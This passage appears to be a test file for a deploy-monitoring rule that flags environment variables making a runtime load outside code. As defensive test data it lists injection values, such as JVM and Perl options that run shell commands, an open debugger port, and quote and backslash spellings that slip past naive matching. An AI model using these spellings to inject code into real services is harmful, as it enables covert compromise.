    const names = ['LD_PRELOAD', 'NODE_PATH', 'LD_LIBRARY_PATH', 'LD_AUDIT', 'BASH_ENV', 'ENV', 'PYTHONSTARTUP', 'PYTHONPATH', 'PYTHONHOME', 'PYTHONUSERBASE', 'CLASSPATH', 'PERL5LIB', 'PERLLIB', 'RUBYLIB', 'GCONV_PATH', 'PHPRC', 'PHP_INI_SCAN_DIR'];
    const env = names.map((name, i) => ({ name, value: `/mnt/bucket/${i}` }));
    const findings = await codeFindings([v1Deploy(T0, []), v1Deploy(T1, env), v1Deploy(T2, env.slice(1))]);
    expect(findings.map((f) => [f.eventTime, f.status ?? 'active'])).toEqual([[T1, 'active']]);
  });

  // A deploy that sets such a variable often ships a new image too (each CI build does): the summary must not say the image is the same.
  it('the summary does not say "with the same image" when the deploy changed the image', async () => {
    const findings = await codeFindings([v1Deploy(T0, [], 'gcr.io/acme/app:1'), v1Deploy(T1, [REQUIRE], 'docker.io/attacker/app:latest')]);
    expect(findings).toHaveLength(1);
    expect(findings[0]!.summary).not.toContain('same image');
    expect(findings[0]!.summary).toContain('the service now loads code named in its environment, not built into its image.');
  });

  // `(more)` is no variable: the summary names the variables it stands for, and says one or more of them changed.
  it('a change past 16 variables names those compared together in the summary, not "(more)"', async () => {
    const names = ['LD_PRELOAD', 'NODE_PATH', 'LD_LIBRARY_PATH', 'LD_AUDIT', 'BASH_ENV', 'ENV', 'PYTHONSTARTUP', 'PYTHONPATH', 'PYTHONHOME', 'PYTHONUSERBASE', 'CLASSPATH', 'PERL5LIB', 'PERLLIB', 'RUBYLIB', 'GCONV_PATH', 'PHPRC', 'PHP_INI_SCAN_DIR'];
    const env = names.map((name, i) => ({ name, value: `/mnt/bucket/${i}` }));
    const findings = await codeFindings([v1Deploy(T0, env), v1Deploy(T1, env.map((v, i) => (i === 16 ? { ...v, value: '/mnt/evil' } : v)))]);
    expect(findings.map((f) => f.evidence['variables'])).toEqual([['(more)']]);
    expect(findings[0]!.summary).toContain('and changed one or more of PHPRC, PHP_INI_SCAN_DIR (past the first 15 such variables, compared together), variables that make its runtime load code:');
  });

  it('hides a secret in a value, and keeps no value in the baseline', async () => {
    const key = 'AKIA' + 'Q3EXAMPLE7RUNWATCH'.slice(0, 16);
    const findings = await codeFindings([v1Deploy(T0, []), v1Deploy(T1, [{ name: 'NODE_OPTIONS', value: `--require /x.js --token=${key}` }])]);
    expect(findings[0]!.evidence['values']).toEqual(['NODE_OPTIONS=--require /x.js --token=[hidden: an AWS access key id]']);
    expect(JSON.stringify(findings)).not.toContain(key);
  });

  const APM_AGENT = { name: 'JAVA_OPTS', value: '-Xmx512m -javaagent:/opt/dd-java-agent.jar' };
  it('JAVA_OPTS set by a late revision of a service first seen by this version: reported live as in timestamp order', async () => {
    const entries = [v1Deploy(T0, []), v1Deploy(T1, [APM_AGENT]), v1Deploy(T2, [APM_AGENT])];
    const only = async (order: unknown[]) => (await findingsLive(order)).filter((f) => f.rule === 'code-loading-env').map((f) => `${f.id} ${f.status ?? 'active'}`);
    const inOrder = await only(entries);
    expect(inOrder).toHaveLength(1);
    expect(await only([entries[2], entries[0], entries[1]])).toEqual(inOrder);
  });

  // JAVA_OPTS, CATALINA_OPTS and PYTHONWARNINGS were read from this version on: a baseline stored by the version before
  // holds none of them, so a service that set one all along (a Java image's APM agent, the usual JAVA_OPTS=-javaagent:)
  // is not newly set on its first deploy after the upgrade; one newly set after that deploy is.
  it.each([
    ['JAVA_OPTS with an APM agent all along', [APM_AGENT], [APM_AGENT], []],
    ['CATALINA_OPTS with an agent all along', [{ name: 'CATALINA_OPTS', value: '-javaagent:/usr/local/newrelic/newrelic.jar' }], [{ name: 'CATALINA_OPTS', value: '-javaagent:/usr/local/newrelic/newrelic.jar' }], []],
    ['PYTHONWARNINGS importing antigravity all along', [{ name: 'PYTHONWARNINGS', value: 'all:0:antigravity.x:0:0' }], [{ name: 'PYTHONWARNINGS', value: 'all:0:antigravity.x:0:0' }], []],
    ['a NODE_OPTIONS --require newly set beside it: reported', [APM_AGENT], [APM_AGENT, REQUIRE], ['NODE_OPTIONS']],
    ['JAVA_OPTS set after the first deploy of this version: reported', [], [[], [APM_AGENT]], ['JAVA_OPTS']],
  ])('a baseline stored by the version before the new names: %s', async (_name, first, then, expected) => {
    const key = `${SLACK_BOT.project}/${SLACK_BOT.location}/${SLACK_BOT.service}`;
    const earlier = new MemoryBaselineStore();
    const before = new Pipeline({ config: config(), store: earlier });
    for (const time of [T0, T1]) await before.handleEntry(v1Deploy(time, first as EnvList), Date.parse(time));
    await before.flush();
    const stored = (await earlier.get(key))!;
    // What the version before kept: no key of a variable it did not read.
    const unread = /^(?:[^/#]*\/)?(?:JAVA_OPTS|CATALINA_OPTS|PYTHONWARNINGS)#/;
    const asStored: Record<string, unknown> = { ...stored, codeLoadingEnv: stored.codeLoadingEnv!.map((point) => ({ ...point, v: point.v.filter((k) => !unread.test(k)) })) };
    // Nor the mark of when its points began to read every name (this version's).
    delete asStored['codeLoadingEnvReadsAllFrom'];
    const upgraded = new Pipeline({ config: config(), store: new MemoryBaselineStore([[key, asStored as unknown as typeof stored]]) });
    const deploys = (then.length > 0 && Array.isArray(then[0]) ? then : [then]) as EnvList[];
    const findings = [];
    for (const [i, env] of deploys.entries()) {
      const time = `2024-05-04T1${i + 1}:30:00Z`;
      const outcome = await upgraded.handleEntry(v1Deploy(time, env), Date.parse(time));
      if (outcome.status === 'processed') findings.push(...outcome.findings);
    }
    findings.push(...(await upgraded.flush()));
    findings.splice(0, findings.length, ...findings.filter((f) => f.rule === 'code-loading-env'));
    expect(findings.map((f) => (f.evidence['variables'] as string[]).join(','))).toEqual(expected);
  });
});

describe('code-loading-env: which values load code', () => {
  it.each([
    ['NODE_OPTIONS', '--max-old-space-size=4096 --enable-source-maps', false],
    ['NODE_OPTIONS', '--require=/x.js', true],
    ['NODE_OPTIONS', '-r /x.js', true],
    ['NODE_OPTIONS', '--experimental-loader ./l.mjs', true],
    // OpenSSL's configuration loads the modules it names as shared libraries (config(5ssl): a module with no built-in
    // name is loaded as a DSO), and OPENSSL_CONF names the file to read instead of the default; node reads one too.
    ['NODE_OPTIONS', '--openssl-config=/mnt/bucket/openssl.cnf', true],
    ['NODE_OPTIONS', '--openssl-shared-config', false],
    ['OPENSSL_CONF', '/mnt/bucket/openssl.cnf', true],
    ['NODE_OPTIONS', '--report-on-signal', false],
    ['JAVA_TOOL_OPTIONS', '-Xmx512m -Dfile.encoding=UTF-8', false],
    ['JAVA_TOOL_OPTIONS', '-agentpath:/x.so', true],
    ['_JAVA_OPTIONS', '-XX:OnOutOfMemoryError="sh -c id"', true],
    ['RUBYOPT', '-W0', false],
    ['RUBYOPT', '-rbundler/setup', true],
    ['PERL5OPT', '-Mstrict', true],
    ['LD_PRELOAD', '/usr/lib/x.so', true],
    ['LD_PRELOAD', '', false],
    ['PYTHONPATH', '/app', true],
    // Spellings the runtimes accept (each run with node 20, perl 5.36 and OpenJDK 17): node strips `"` from
    // NODE_OPTIONS and takes `_` for `-` in option names; the JVM strips quotes from JAVA_TOOL_OPTIONS and reads
    // options from a file (-XX:VMOptionsFile, and @argfiles in JDK_JAVA_OPTIONS); perl takes PERL5OPT's switches
    // with or without their dash.
    ['NODE_OPTIONS', '"--require" /mnt/bucket/hook.js', true],
    ['NODE_OPTIONS', '--re"quire" /mnt/bucket/hook.js', true],
    ['NODE_OPTIONS', '--max-old-space-size=4096 "--import=/mnt/bucket/hook.mjs"', true],
    ['NODE_OPTIONS', '--experimental_loader=/mnt/bucket/loader.mjs', true],
    // Inside double quotes node takes `\x` for `x` (node 20.20 loads the hook).
    ['NODE_OPTIONS', '"--re\\quire" /mnt/bucket/hook.js', true],
    ['NODE_OPTIONS', '--max_old_space_size=4096', false],
    ['JAVA_TOOL_OPTIONS', '"-javaagent:/mnt/gcs/agent.jar"', true],
    ["JAVA_TOOL_OPTIONS", "-Xmx512m '-javaagent:/mnt/gcs/agent.jar'", true],
    ['JAVA_TOOL_OPTIONS', '-XX:VMOptionsFile=/mnt/gcs/options', true],
    ['JDK_JAVA_OPTIONS', '@/mnt/gcs/args', true],
    ['OPENJ9_JAVA_OPTIONS', '-XX:+IgnoreUnrecognizedVMOptions -XX:+IdleTuningGcOnIdle -Xshareclasses:name=openj9_system_scc,cacheDir=/opt/java/.scc,readonly,nonFatal', false],
    ['OPENJ9_JAVA_OPTIONS', '-Xoptionsfile=/mnt/gcs/options', true],
    ['IBM_JAVA_OPTIONS', '-Xmx512m -agentpath:/mnt/gcs/libhook.so', true],
    // -Xrun<lib> is the older -agentlib:<lib>: the JVM loads lib<lib>.so (OpenJDK 17: "Could not find agent library
    // ... on the library path"), or the JDWP debugger (`Listening for transport dt_socket`).
    ['JAVA_TOOL_OPTIONS', '-Djava.library.path=/mnt/gcs -Xrunhook', true],
    ['_JAVA_OPTIONS', '-Xrunjdwp:transport=dt_socket,server=y,suspend=n,address=*:5005', true],
    ['JDK_JAVA_OPTIONS', '-Dmail=ops@acme.com', false],
    // --patch-module puts classes from a path in place of a module's (OpenJDK 17, JAVA_TOOL_OPTIONS
    // `--patch-module=m=/tmp/patch`: the patch's p.Main ran instead of the module's); the launcher takes it with a space
    // in JDK_JAVA_OPTIONS. -XX:Flags= reads VM options from a file, as -XX:VMOptionsFile= does (OpenJDK 17 read it).
    ['JAVA_TOOL_OPTIONS', '-Xmx512m --patch-module=java.base=/mnt/gcs/patch', true],
    ['JDK_JAVA_OPTIONS', '--patch-module java.base=/mnt/gcs/patch', true],
    ['_JAVA_OPTIONS', '-XX:Flags=/mnt/gcs/flags', true],
    ['JAVA_TOOL_OPTIONS', '--add-opens=java.base/java.lang=ALL-UNNAMED', false],
    ['PERL5OPT', 'Mstrict;system(q(id))', true],
    ['PERL5OPT', '-w MEvil', true],
    ['PERL5OPT', '-w', false],
    // Ruby puts a `-` before each word of RUBYOPT that has none (ruby.c moreswitches), and reads a switch that takes
    // no argument (-w, -v, -d, -W0, -KU) on into the next one of the same word (proc_options: `goto reswitch`).
    ['RUBYOPT', 'r/mnt/bucket/hook', true],
    ['RUBYOPT', '-W0 r/mnt/bucket/hook', true],
    ['RUBYOPT', '-wr/mnt/bucket/hook', true],
    ['RUBYOPT', '-W0I/mnt/bucket/lib', true],
    ['RUBYOPT', '-W0 --disable-gems -Eutf-8', false],
  ])('%s=%s: %s', (name, value, expected) => {
    expect(loadsCode(name, value)).toBe(expected);
  });

  // A value is the deployer's text: reading it must take time in proportion to its length. RUBYOPT's `-K<c>` took
  // any character after K, white space too, so each word re-read all the words after it (50,000 `K`s: seconds).
  it.each([
    ['RUBYOPT', ' K'.repeat(50_000)],
    ['RUBYOPT', ' -wK'.repeat(25_000)],
    ['PERL5OPT', ' -w'.repeat(33_000)],
    ['NODE_OPTIONS', ' --re'.repeat(20_000)],
    ['JAVA_TOOL_OPTIONS', ' -XX:On'.repeat(14_000)],
    ['PYTHONWARNINGS', ',a:b:c'.repeat(16_000)],
  ])('%s: a crafted 100 KB value is read in linear time', (name, value) => {
    const start = performance.now();
    expect(loadsCode(name, value)).toBe(false);
    expect(performance.now() - start).toBeLessThan(250);
  });

  // Where the option is found (read without quotes and backslashes) must be where it starts in the value as written:
  // random padding of quotes, backslashes, white space and other options before it, the value shown from there.
  it('shows a long value from the option that loads code, as written (random padding)', () => {
    let seed = 7;
    const random = (n: number): number => ((seed = (seed * 1103515245 + 12345) % 2 ** 31), seed % n);
    const pieces = ['"', "'", '\\', ' ', '\t', 'x', '--max-old-space-size=1', '"a b"', '--title=a'];
    const options = ['--require', '"--require"', "'--re'quire", '--re\\quire', '-r', '"-r"'];
    for (let i = 0; i < 2000; i++) {
      let padding = '';
      while (padding.length < 110 + random(200)) padding += pieces[random(pieces.length)];
      const option = options[i % options.length]!;
      const value = `${padding} ${option} /mnt/bucket/hook.js`;
      const [read] = codeLoadingEnvOf([{ name: 'app', env: [{ name: 'NODE_OPTIONS', value }] }]);
      expect(read!.loadsCode).toBe(true);
      if (value.length <= 200) continue;
      expect(read!.value).toBe(`…${option} /mnt/bucket/hook.js`);
    }
  });

  it('reads at most 16 variables, values cut, names of other variables never', () => {
    const env = Array.from({ length: 20 }, (_, i) => ({ name: i % 2 ? 'LD_PRELOAD' : 'OTHER', value: `/lib/${i}.so${'x'.repeat(300)}` }));
    const read = codeLoadingEnvOf([{ name: 'app', env }, { env: Array.from({ length: 20 }, () => ({ name: 'PATH', value: '/bin' })) }]);
    expect(read).toHaveLength(16);
    expect(read.every((v) => v.name !== 'OTHER' && v.value.length <= 200)).toBe(true);
  });
});

// The mark of when a baseline's points began to read JAVA_OPTS, CATALINA_OPTS and PYTHONWARNINGS is the baseline's
// (ServiceBaseline.codeLoadingEnvReadsAllFrom), kept across a delete as the points it dates are: a delete that dropped
// it let the re-created service's first deploy date every point before it as the version before's, and a late deploy of
// the deleted service that set one of them (judged against such a point) was taken for one set all along.
describe('code-loading-env: a delete keeps when the points began to read every name', () => {
  const DELETED = '2024-05-04T10:30:00Z';
  it.each([
    ['JAVA_OPTS with an APM agent', { name: 'JAVA_OPTS', value: '-javaagent:/opt/dd-java-agent.jar' }],
    ['PYTHONWARNINGS importing antigravity', { name: 'PYTHONWARNINGS', value: 'all:0:antigravity.x:0:0' }],
  ])("%s set by a deploy before the delete, arriving after the re-created service's first deploy: reported, as in order", async (_name, variable) => {
    const entries = [v1Deploy(T0, []), v1Deploy(T1, [variable]), deleteServiceAt(DELETED, SLACK_BOT), v1Deploy(T2, [])];
    const ids = async (order: unknown[]) => [...new Set((await findingsLive(order)).filter((f) => f.rule === 'code-loading-env').map((f) => f.id))];
    const inOrder = await ids(entries);
    expect(inOrder).toHaveLength(1);
    expect(await ids([entries[0], entries[2], entries[3], entries[1]])).toEqual(inOrder);
  });
});
